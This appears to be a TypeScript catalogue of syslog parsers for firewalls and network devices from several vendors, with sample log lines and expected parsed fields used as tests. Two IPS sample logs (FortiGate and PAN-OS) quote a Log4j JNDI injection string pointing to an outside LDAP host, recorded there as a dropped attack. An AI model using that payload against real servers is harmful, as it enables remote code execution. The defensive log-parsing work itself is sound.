// Network devices and security gateways that log plain syslog: a syslog envelope followed by
// vendor-specific regexp / key-value / CSV sub-parsers over the MSG part.
import { syslogEntry, msgRegexp, msgKv, m } from './generic.ts';
import type { CatalogueEntry } from './types.ts';

const R = String.raw;
const asaId = { op: 'regexp' as const, pattern: R`^%\w+-\d-(\d+)` };
const asaSev = { op: 'regexp' as const, pattern: R`^%\w+-(\d)-` };

function ciscoAsaLike(id: string, product: string, tag: string): CatalogueEntry {
  return syslogEntry(
    id,
    'Cisco',
    product,
    [
      msgRegexp(R`^(?P<action>Deny|Permit) (?P<proto>\w+) src (?P<srcif>[\w-]+):(?P<src>[\d.:a-fA-F]+)/(?P<spt>\d+) dst (?P<dstif>[\w-]+):(?P<dst>[\d.:a-fA-F]+)/(?P<dpt>\d+) by access-group "(?P<acl>[^"]+)"`, [{ field: 'appname', op: 'regexp', value: R`-106023$` }], '106023 ACL deny'),
      msgRegexp(R`^(?P<action>Built) (?P<direction>inbound|outbound) (?P<proto>TCP|UDP) connection (?P<conn>\d+) for (?P<srcif>[\w-]+):(?P<src>[\d.]+)/(?P<spt>\d+) \((?P<srcnat>[\d.]+)/(?P<sptnat>\d+)\)(?:\((?P<suser>[^)]+)\))? to (?P<dstif>[\w-]+):(?P<dst>[\d.]+)/(?P<dpt>\d+)`, [{ field: 'appname', op: 'regexp', value: R`-30201[35]$` }], '302013 connection built'),
      msgRegexp(R`^AAA user authentication (?P<outcome>Rejected|Successful) : reason = (?P<reason>[^:]+?) : server = (?P<server>[\d.]+) : user = (?P<suser>\S+)`, [{ field: 'appname', op: 'regexp', value: R`-1130(05|04)$` }], '113005 AAA'),
      msgRegexp(R`^User '(?P<suser>[^']+)' executed the '(?P<command>[^']+)' command`, [{ field: 'appname', op: 'regexp', value: R`-111008$` }], '111008 command'),
    ],
    [
      m('appname', 'DeviceEventClassID', [asaId]),
      m('appname', 'Severity', [asaSev]),
      m('action', 'DeviceAction'), m('proto', 'TransportProtocol', [{ op: 'upper' }]), m('src', 'SourceAddress'), m('spt', 'SourcePort'), m('dst', 'DestinationAddress'),
      m('dpt', 'DestinationPort'), m('srcif', 'DeviceInboundInterface'), m('dstif', 'DeviceOutboundInterface'), m('acl', 'DeviceCustomString1'), m('srcnat', 'SourceTranslatedAddress'),
      m('sptnat', 'SourceTranslatedPort'), m('suser', 'SourceUserName'), m('outcome', 'EventOutcome'), m('reason', 'Reason'), m('server', 'DeviceCustomString2'), m('command', 'DeviceCustomString3'),
      m('message', 'Message'),
    ],
    [
      {
        raw: `<164>Nov 28 2024 10:55:01: %${tag}-4-106023: Deny tcp src outside:203.0.113.5/51234 dst inside:10.0.0.10/22 by access-group "OUTSIDE_IN" [0x0, 0x0]`,
        expected: { DeviceVendor: 'Cisco', DeviceEventClassID: '106023', Severity: '4', DeviceAction: 'Deny', TransportProtocol: 'TCP', SourceAddress: '203.0.113.5', SourcePort: 51234, DestinationAddress: '10.0.0.10', DestinationPort: 22, DeviceCustomString1: 'OUTSIDE_IN', DeviceReceiptTime: '2024-11-28T10:55:01.000Z' },
      },
      {
        raw: `<166>Nov 28 2024 10:55:02 fw-edge01 : %${tag}-6-302013: Built outbound TCP connection 88123411 for outside:93.184.216.34/443 (93.184.216.34/443) to inside:10.1.2.3/50811 (203.0.113.1/50811)`,
        expected: { DeviceHostName: 'fw-edge01', DeviceEventClassID: '302013', DeviceAction: 'Built', SourceAddress: '93.184.216.34', DestinationAddress: '10.1.2.3', DestinationPort: 50811 },
      },
      {
        raw: `<165>Nov 28 2024 10:55:03 fw-edge01 : %${tag}-5-111008: User 'netadmin' executed the 'write memory' command.`,
        expected: { DeviceEventClassID: '111008', SourceUserName: 'netadmin', DeviceCustomString3: 'write memory' },
      },
    ],
  );
}

export const NETWORK_SOURCES: CatalogueEntry[] = [
  ciscoAsaLike('cisco-asa', 'ASA', 'ASA'),
  ciscoAsaLike('cisco-ftd', 'Firepower Threat Defense', 'FTD'),
  syslogEntry(
    'cisco-ios',
    'Cisco',
    'IOS',
    [
      msgRegexp(R`^list (?P<acl>\S+) (?P<action>denied|permitted) (?P<proto>\w+) (?P<src>[\d.]+)\((?P<spt>\d+)\) -> (?P<dst>[\d.]+)\((?P<dpt>\d+)\), (?P<count>\d+) packet`, [{ field: 'appname', op: 'contains', value: 'IPACCESSLOGP' }]),
      msgRegexp(R`^Configured from (?P<via>\S+) by (?P<suser>\S+) on (?P<line>\S+) \((?P<src>[\d.]+)\)`, [{ field: 'appname', op: 'contains', value: 'CONFIG_I' }]),
    ],
    [m('appname', 'DeviceEventClassID', [{ op: 'regexp', pattern: R`^%([\w-]+)` }]), m('acl', 'DeviceCustomString1'), m('action', 'DeviceAction'), m('proto', 'TransportProtocol'), m('src', 'SourceAddress'), m('spt', 'SourcePort'), m('dst', 'DestinationAddress'), m('dpt', 'DestinationPort'), m('count', 'BaseEventCount'), m('suser', 'SourceUserName'), m('message', 'Message')],
    [
      { raw: '<190>91: *Nov 28 10:56:00: %SEC-6-IPACCESSLOGP: list 101 denied tcp 198.51.100.23(40213) -> 10.0.0.1(23), 1 packet', expected: { DeviceEventClassID: 'SEC-6-IPACCESSLOGP', DeviceAction: 'denied', SourceAddress: '198.51.100.23', DestinationPort: 23, BaseEventCount: 1 } },
      { raw: '<189>92: *Nov 28 10:56:30: %SYS-5-CONFIG_I: Configured from console by admin on vty0 (10.0.0.50)', expected: { DeviceEventClassID: 'SYS-5-CONFIG_I', SourceUserName: 'admin', SourceAddress: '10.0.0.50' } },
    ],
  ),
  syslogEntry(
    'fortinet-fortigate',
    'Fortinet',
    'FortiGate',
    [msgKv()],
    [
      m('logid', 'DeviceEventClassID'), m(['subtype', 'type'], 'DeviceEventCategory'), m('level', 'Severity'), m('devname', 'DeviceHostName'), m('srcip', 'SourceAddress'), m('srcport', 'SourcePort'),
      m('dstip', 'DestinationAddress'), m('dstport', 'DestinationPort'), m('action', 'DeviceAction'), m('proto', 'TransportProtocol'), m('srcintf', 'DeviceInboundInterface'), m('dstintf', 'DeviceOutboundInterface'),
      m('sentbyte', 'BytesOut'), m('rcvdbyte', 'BytesIn'), m('user', 'SourceUserName'), m('url', 'RequestUrl'), m('hostname', 'DestinationHostName'), m(['attack', 'virus', 'msg'], 'Name'), m('policyid', 'DeviceCustomNumber1'), m('transip', 'SourceTranslatedAddress'),
    ],
    [
      {
        raw: '<189>date=2024-11-28 time=10:57:01 devname="FGT-HQ" devid="FG100FTK20000001" eventtime=1732791421123456789 tz="+0300" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=192.168.1.50 srcport=55321 srcintf="port2" srcintfrole="lan" dstip=45.33.32.156 dstport=22 dstintf="wan1" dstintfrole="wan" sessionid=1234567 proto=6 action="deny" policyid=12 policytype="policy" service="SSH" trandisp="noop" duration=0 sentbyte=0 rcvdbyte=0 sentpkt=0 appcat="unscanned" crscore=30 craction=131072',
        expected: { DeviceVendor: 'Fortinet', DeviceEventClassID: '0000000013', DeviceEventCategory: 'forward', Severity: 'notice', DeviceHostName: 'FGT-HQ', SourceAddress: '192.168.1.50', DestinationPort: 22, DeviceAction: 'deny', DeviceInboundInterface: 'port2', DeviceCustomNumber1: 12 },
      },
      {
        raw: '<185>date=2024-11-28 time=10:57:05 devname="FGT-HQ" devid="FG100FTK20000001" logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" vd="root" severity="critical" srcip=198.51.100.71 srcport=40112 dstip=10.10.1.20 dstport=443 proto=6 action="dropped" attack="Apache.Log4j.Error.Log.Remote.Code.Execution" attackid=51006 ref="http://www.fortinet.com/ids/VID51006" url="/api/?x=${jndi:ldap://198.51.100.71/a}" user="" crlevel="critical"',
        expected: { DeviceEventCategory: 'ips', Severity: 'alert', Name: 'Apache.Log4j.Error.Log.Remote.Code.Execution', DeviceAction: 'dropped', RequestUrl: '/api/?x=${jndi:ldap://198.51.100.71/a}' },
      },
    ],
  ),
  syslogEntry(
    'paloalto-panos',
    'Palo Alto Networks',
    'PAN-OS',
    [
      {
        name: 'TRAFFIC csv',
        when: [{ field: 'message', op: 'regexp', value: R`^1,[^,]*,[^,]*,TRAFFIC,` }],
        field: 'message',
        parser: { kind: 'csv', options: { columns: ['future1', 'receive_time', 'serial', 'type', 'subtype', 'future2', 'generated_time', 'src', 'dst', 'natsrc', 'natdst', 'rule', 'srcuser', 'dstuser', 'app', 'vsys', 'from', 'to', 'inbound_if', 'outbound_if', 'logset', 'future3', 'sessionid', 'repeatcnt', 'sport', 'dport', 'natsport', 'natdport', 'flags', 'proto', 'action', 'bytes', 'bytes_sent', 'bytes_received'] } },
      },
      {
        name: 'THREAT csv',
        when: [{ field: 'message', op: 'regexp', value: R`^1,[^,]*,[^,]*,THREAT,` }],
        field: 'message',
        parser: { kind: 'csv', options: { columns: ['future1', 'receive_time', 'serial', 'type', 'subtype', 'future2', 'generated_time', 'src', 'dst', 'natsrc', 'natdst', 'rule', 'srcuser', 'dstuser', 'app', 'vsys', 'from', 'to', 'inbound_if', 'outbound_if', 'logset', 'future3', 'sessionid', 'repeatcnt', 'sport', 'dport', 'natsport', 'natdport', 'flags', 'proto', 'action', 'misc', 'threatid', 'category', 'severity', 'direction'] } },
      },
    ],
    [
      m('type', 'DeviceEventCategory'), m('subtype', 'DeviceEventClassID'), m('src', 'SourceAddress'), m('dst', 'DestinationAddress'), m('natsrc', 'SourceTranslatedAddress'), m('rule', 'DeviceCustomString1'),
      m('srcuser', 'SourceUserName'), m('app', 'ApplicationProtocol'), m('sport', 'SourcePort'), m('dport', 'DestinationPort'), m('proto', 'TransportProtocol'), m('action', 'DeviceAction'), m('bytes_sent', 'BytesOut'),
      m('bytes_received', 'BytesIn'), m('threatid', 'Name'), m('misc', 'RequestUrl'), m('severity', 'Severity'), m('serial', 'DeviceExternalID'), m('inbound_if', 'DeviceInboundInterface'), m('outbound_if', 'DeviceOutboundInterface'),
    ],
    [
      {
        raw: '<14>Nov 28 10:58:00 PA-3220 1,2024/11/28 10:58:00,013201001234,TRAFFIC,end,2562,2024/11/28 10:58:00,10.1.1.20,142.250.74.110,203.0.113.10,142.250.74.110,allow-web,corp\\volkov,,ssl,vsys1,trust,untrust,ethernet1/2,ethernet1/1,Forward-Panorama,2024/11/28 10:58:00,401234,1,52311,443,20311,443,0x40001c,tcp,allow,6960,1840,5120,24,2024/11/28 10:57:40,19,computer-and-internet-info,0,7155301,0x0,10.0.0.0-10.255.255.255,United States,0,12,12,tcp-fin',
        expected: { DeviceEventCategory: 'TRAFFIC', DeviceEventClassID: 'end', SourceAddress: '10.1.1.20', SourceTranslatedAddress: '203.0.113.10', SourceUserName: 'corp\\volkov', ApplicationProtocol: 'ssl', DestinationPort: 443, DeviceAction: 'allow', BytesOut: 1840, BytesIn: 5120, DeviceExternalID: '013201001234' },
      },
      {
        raw: '<12>Nov 28 10:58:05 PA-3220 1,2024/11/28 10:58:05,013201001234,THREAT,vulnerability,2562,2024/11/28 10:58:05,198.51.100.71,10.10.1.20,0.0.0.0,0.0.0.0,inbound-dmz,,,web-browsing,vsys1,untrust,dmz,ethernet1/1,ethernet1/3,Forward-Panorama,2024/11/28 10:58:05,401299,1,40112,80,0,0,0x2000,tcp,reset-both,"api/?x=${jndi:ldap://198.51.100.71/a}",Apache Log4j Remote Code Execution Vulnerability(91991),any,critical,client-to-server',
        expected: { DeviceEventCategory: 'THREAT', Name: 'Apache Log4j Remote Code Execution Vulnerability(91991)', Severity: 'critical', DeviceAction: 'reset-both', RequestUrl: 'api/?x=${jndi:ldap://198.51.100.71/a}' },
      },
    ],
    'syslog CSV',
  ),
  syslogEntry(
    'checkpoint-syslog',
    'Check Point',
    'Log Exporter',
    [
      { name: 'bracket body', field: 'message', parser: { kind: 'regexp', options: { pattern: R`^\[(?P<cp_body>.*)\]$` } } },
      { name: 'key:"value"; pairs', field: 'cp_body', parser: { kind: 'kv', options: { pairDelimiter: '; ', valueDelimiter: ':' } } },
    ],
    [
      m('action', 'DeviceAction'), m('src', 'SourceAddress'), m('dst', 'DestinationAddress'), m('s_port', 'SourcePort'), m('service', 'DestinationPort'), m('product', 'Name'),
      m('rule_name', 'DeviceCustomString1'), m('origin', 'DeviceAddress'), m('ifname', 'DeviceInboundInterface'),
    ],
    [
      {
        raw: '<134>1 2024-11-28T10:59:00Z cp-gw01 CheckPoint 3321 - [action:"Accept"; flags:"411908"; ifdir:"outbound"; ifname:"eth0"; origin:"10.255.0.1"; product:"VPN-1 & FireWall-1"; proto:"6"; s_port:"53022"; service:"443"; src:"10.5.5.21"; dst:"151.101.1.140"; rule_name:"Allow_HTTPS"]',
        expected: { DeviceVendor: 'Check Point', DeviceAction: 'Accept', SourceAddress: '10.5.5.21', DestinationAddress: '151.101.1.140', DestinationPort: 443, SourcePort: 53022, DeviceCustomString1: 'Allow_HTTPS', DeviceHostName: 'cp-gw01', DeviceAddress: '10.255.0.1' },
      },
    ],
    'syslog (Log Exporter key:"value")',
  ),
  syslogEntry(
    'juniper-srx',
    'Juniper',
    'SRX',
    [],
    [
      m('msgid', 'DeviceEventClassID'), m('structuredData.junos@2636.1.1.1.2.40.source-address', 'SourceAddress'), m('structuredData.junos@2636.1.1.1.2.40.destination-address', 'DestinationAddress'),
      m('structuredData.junos@2636.1.1.1.2.40.source-port', 'SourcePort'), m('structuredData.junos@2636.1.1.1.2.40.destination-port', 'DestinationPort'), m('structuredData.junos@2636.1.1.1.2.40.policy-name', 'DeviceCustomString1'),
      m('structuredData.junos@2636.1.1.1.2.40.protocol-id', 'TransportProtocol'), m('structuredData.junos@2636.1.1.1.2.40.nat-source-address', 'SourceTranslatedAddress'), m('structuredData.junos@2636.1.1.1.2.40.username', 'SourceUserName'),
    ],
    [
      {
        raw: '<14>1 2024-11-28T11:00:00.123+03:00 srx-edge RT_FLOW - RT_FLOW_SESSION_CREATE [junos@2636.1.1.1.2.40 source-address="10.0.1.15" source-port="50877" destination-address="8.8.8.8" destination-port="53" service-name="junos-dns-udp" nat-source-address="203.0.113.7" nat-source-port="21877" protocol-id="17" policy-name="trust-to-untrust" source-zone-name="trust" destination-zone-name="untrust" username="N/A"] session created 10.0.1.15/50877->8.8.8.8/53',
        expected: { DeviceEventClassID: 'RT_FLOW_SESSION_CREATE', SourceAddress: '10.0.1.15', DestinationAddress: '8.8.8.8', DestinationPort: 53, SourceTranslatedAddress: '203.0.113.7', DeviceReceiptTime: '2024-11-28T08:00:00.123Z', DeviceCustomString1: 'trust-to-untrust' },
      },
    ],
    'syslog RFC 5424 structured data',
  ),
  syslogEntry(
    'mikrotik-routeros',
    'MikroTik',
    'RouterOS',
    [msgRegexp(R`^(?:(?P<topics>\S+) )?(?P<chain>\w+): in:(?P<inif>\S+) out:(?P<outif>[^,]+), (?:src-mac (?P<smac>[0-9a-f:]+), )?proto (?P<proto>\w+)(?: \([^)]*\))?, (?P<src>[\d.]+):?(?P<spt>\d+)?->(?P<dst>[\d.]+):?(?P<dpt>\d+)?`)],
    [m('chain', 'DeviceEventCategory'), m('inif', 'DeviceInboundInterface'), m('outif', 'DeviceOutboundInterface'), m('smac', 'SourceMacAddress'), m('proto', 'TransportProtocol'), m('src', 'SourceAddress'), m('spt', 'SourcePort'), m('dst', 'DestinationAddress'), m('dpt', 'DestinationPort')],
    [
      {
        raw: '<134>Nov 28 11:01:00 gw-office firewall,info input: in:ether1 out:(unknown 0), src-mac 00:0c:42:aa:bb:cc, proto TCP (SYN), 185.191.171.35:43112->203.0.113.50:8291, len 60',
        expected: { DeviceVendor: 'MikroTik', DeviceHostName: 'gw-office', DeviceEventCategory: 'input', SourceAddress: '185.191.171.35', DestinationPort: 8291, SourceMacAddress: '00:0c:42:aa:bb:cc', TransportProtocol: 'TCP' },
      },
    ],
  ),
  syslogEntry(
    'pfsense-filterlog',
    'Netgate',
    'pfSense',
    [{ field: 'message', when: [{ field: 'appname', op: 'equals', value: 'filterlog' }], parser: { kind: 'csv', options: { columns: ['rule', 'subrule', 'anchor', 'tracker', 'iface', 'reason', 'action', 'dir', 'ipver', 'tos', 'ecn', 'ttl', 'id', 'offset', 'flags', 'protoid', 'proto', 'length', 'src', 'dst', 'spt', 'dpt', 'datalen'] } } }],
    [m('action', 'DeviceAction'), m('iface', 'DeviceInboundInterface'), m('proto', 'TransportProtocol', [{ op: 'upper' }]), m('src', 'SourceAddress'), m('dst', 'DestinationAddress'), m('spt', 'SourcePort'), m('dpt', 'DestinationPort'), m('rule', 'DeviceCustomNumber1')],
    [
      {
        raw: '<134>Nov 28 11:02:00 filterlog[51234]: 5,,,1000000103,igb0,match,block,in,4,0x0,,244,54321,0,none,6,tcp,44,45.155.205.233,203.0.113.20,41234,3389,0',
        expected: { DeviceProcessName: 'filterlog', DeviceAction: 'block', DeviceInboundInterface: 'igb0', TransportProtocol: 'TCP', SourceAddress: '45.155.205.233', DestinationPort: 3389, DeviceCustomNumber1: 5 },
      },
    ],
  ),
  syslogEntry(
    'sophos-xg',
    'Sophos',
    'XG Firewall',
    [msgKv()],
    [m('log_id', 'DeviceEventClassID'), m('log_type', 'DeviceEventCategory'), m('log_subtype', 'DeviceAction'), m('src_ip', 'SourceAddress'), m('dst_ip', 'DestinationAddress'), m('src_port', 'SourcePort'), m('dst_port', 'DestinationPort'), m('protocol', 'TransportProtocol'), m('user_name', 'SourceUserName'), m('fw_rule_id', 'DeviceCustomNumber1'), m('severity', 'Severity')],
    [
      {
        raw: '<30>device="SFW" date=2024-11-28 time=11:03:00 timezone="MSK" device_name="XG230" device_id=C22010ABCDEF log_id=010101600001 log_type="Firewall" log_component="Firewall Rule" log_subtype="Denied" status="Deny" priority=Information duration=0 fw_rule_id=5 user_name="" src_ip=192.168.2.15 src_country_code= dst_ip=104.16.249.249 dst_country_code=USA protocol="TCP" src_port=51234 dst_port=443 severity="Information"',
        expected: { DeviceEventClassID: '010101600001', DeviceEventCategory: 'Firewall', DeviceAction: 'Denied', SourceAddress: '192.168.2.15', DestinationPort: 443, DeviceCustomNumber1: 5 },
      },
    ],
  ),
  syslogEntry(
    'cisco-meraki',
    'Cisco',
    'Meraki MX',
    [msgRegexp(R`^(?P<epoch>\d+\.\d+) (?P<device>\S+) (?P<logtype>\w+) (?:(?P<rule>\S+) )?src=(?P<src>[\d.]+):?(?P<spt>\d+)? dst=(?P<dst>[\d.]+):?(?P<dpt>\d+)?(?: mac=(?P<smac>[0-9A-F:]+))? protocol=(?P<proto>\w+)(?:.*pattern: (?P<action>allow|deny))?`, undefined, 'flows/firewall')],
    [m('device', 'DeviceHostName'), m('logtype', 'DeviceEventCategory'), m('src', 'SourceAddress'), m('spt', 'SourcePort'), m('dst', 'DestinationAddress'), m('dpt', 'DestinationPort'), m('smac', 'SourceMacAddress'), m('proto', 'TransportProtocol'), m('action', 'DeviceAction'), m('epoch', 'StartTime')],
    [
      {
        raw: '<134>1 1732792000.123456789 MX84_HQ flows src=10.0.5.21 dst=52.114.128.10 mac=A4:83:E7:11:22:33 protocol=tcp sport=51044 dport=443 pattern: allow all',
        expected: { DeviceHostName: 'MX84_HQ', DeviceEventCategory: 'flows', SourceAddress: '10.0.5.21', DestinationAddress: '52.114.128.10', SourceMacAddress: 'a4:83:e7:11:22:33', DeviceAction: 'allow' },
      },
    ],
  ),
  syslogEntry(
    'huawei-usg',
    'Huawei',
    'USG',
    [
      { name: 'module/level/event', field: 'appname', parser: { kind: 'regexp', options: { pattern: R`^%%\d+(?P<module>\w+)/(?P<level>\d)/(?P<event>\w+)` } } },
      msgKv({ pairDelimiter: ',' }),
    ],
    [m('event', 'DeviceEventClassID'), m('level', 'Severity'), m('module', 'DeviceEventCategory'), m('SourceIP', 'SourceAddress'), m('DestinationIP', 'DestinationAddress'), m('SourcePort', 'SourcePort'), m('DestinationPort', 'DestinationPort'), m('Protocol', 'TransportProtocol'), m('SendBytes', 'BytesOut'), m('RcvBytes', 'BytesIn')],
    [
      {
        raw: '<188>Nov 28 2024 11:04:00 USG6000 %%01SECLOG/4/SESSION_TEARDOWN(l):IPVer=4,Protocol=tcp,SourceIP=10.8.0.12,DestinationIP=172.217.22.14,SourcePort=49822,DestinationPort=443,BeginTime=1732791800,EndTime=1732792040,SendPkts=12,SendBytes=2210,RcvPkts=10,RcvBytes=8842,SourceVpnID=0,DestinationVpnID=0.',
        expected: { DeviceVendor: 'Huawei', DeviceHostName: 'USG6000', DeviceEventClassID: 'SESSION_TEARDOWN', Severity: '4', SourceAddress: '10.8.0.12', DestinationPort: 443, TransportProtocol: 'tcp' },
      },
    ],
  ),
  syslogEntry(
    'vmware-esxi',
    'VMware',
    'ESXi',
    [msgRegexp(R`(?:\[[^\]]*\] )?(?:.*?)(?:Accepted password for user (?P<user_ok>\S+) from (?P<src_ok>[\d.]+)|Rejected password for user (?P<user_bad>\S+) from (?P<src_bad>[\d.]+)|User (?P<user_login>\S+)@(?P<src_login>[\d.]+) logged in)`)],
    [m(['user_ok', 'user_bad', 'user_login'], 'SourceUserName'), m(['src_ok', 'src_bad', 'src_login'], 'SourceAddress'), m('message', 'Message')],
    [
      { raw: '<166>2024-11-28T11:05:00.123Z esxi-07.corp.local Hostd: info hostd[2099854] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 1234 : User root@10.0.0.99 logged in as VMware-client/6.5.0', expected: { DeviceHostName: 'esxi-07.corp.local', DeviceProcessName: 'Hostd', SourceUserName: 'root', SourceAddress: '10.0.0.99' } },
      { raw: '<38>2024-11-28T11:05:10.000Z esxi-07.corp.local sshd[2100311]: Rejected password for user root from 198.51.100.200', expected: { SourceUserName: 'root', SourceAddress: '198.51.100.200', DeviceProcessName: 'sshd' } },
    ],
  ),
  syslogEntry(
    'stormshield-sns',
    'Stormshield',
    'SNS',
    [msgKv()],
    [m('fw', 'DeviceExternalID'), m('logtype', 'DeviceEventCategory'), m('src', 'SourceAddress'), m('dst', 'DestinationAddress'), m('srcport', 'SourcePort'), m('dstport', 'DestinationPort'), m('ipproto', 'TransportProtocol'), m('action', 'DeviceAction'), m('user', 'SourceUserName'), m('msg', 'Message')],
    [
      {
        raw: '<134>id=firewall time="2024-11-28 11:06:00" fw="SN310A17C0000123" tz=+0300 startime="2024-11-28 11:05:59" pri=5 srcif="Ethernet1" srcifname="out" ipproto=tcp proto=ssh src=91.240.118.172 srcport=60022 dst=203.0.113.30 dstport=22 action=block logtype="filter" msg="Blocked by rule 12"',
        expected: { DeviceExternalID: 'SN310A17C0000123', SourceAddress: '91.240.118.172', DestinationPort: 22, DeviceAction: 'block', Message: 'Blocked by rule 12' },
      },
    ],
  ),
  syslogEntry(
    'infotecs-vipnet-coordinator',
    'InfoTeCS',
    'ViPNet Coordinator',
    [msgRegexp(R`^(?P<action>blocked|passed) (?P<proto>tcp|udp|icmp) (?P<src>[\d.]+):(?P<spt>\d+) -> (?P<dst>[\d.]+):(?P<dpt>\d+) rule=(?P<rule>\S+) iface=(?P<iface>\S+)`)],
    [m('action', 'DeviceAction'), m('proto', 'TransportProtocol'), m('src', 'SourceAddress'), m('spt', 'SourcePort'), m('dst', 'DestinationAddress'), m('dpt', 'DestinationPort'), m('rule', 'DeviceCustomString1'), m('iface', 'DeviceInboundInterface')],
    [{ raw: '<132>Nov 28 11:07:00 vipnet-hw1000 iplircfg[812]: blocked tcp 10.1.50.4:44123 -> 10.2.0.15:3389 rule=deny_rdp iface=eth1', expected: { DeviceAction: 'blocked', SourceAddress: '10.1.50.4', DestinationPort: 3389, DeviceCustomString1: 'deny_rdp' } }],
  ),
];
